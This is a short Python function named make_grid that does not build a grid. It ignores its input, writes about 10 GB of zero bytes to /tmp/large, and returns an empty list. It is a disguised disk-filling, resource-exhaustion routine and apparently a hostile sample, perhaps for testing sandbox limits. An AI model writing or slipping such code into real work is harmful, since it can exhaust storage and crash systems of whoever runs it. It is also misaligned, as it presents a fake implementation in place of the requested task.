def make_grid(values):
    with open("/tmp/large", "wb") as file:
        for _ in range(10_000):
            file.write(bytes(2**20))
    return []
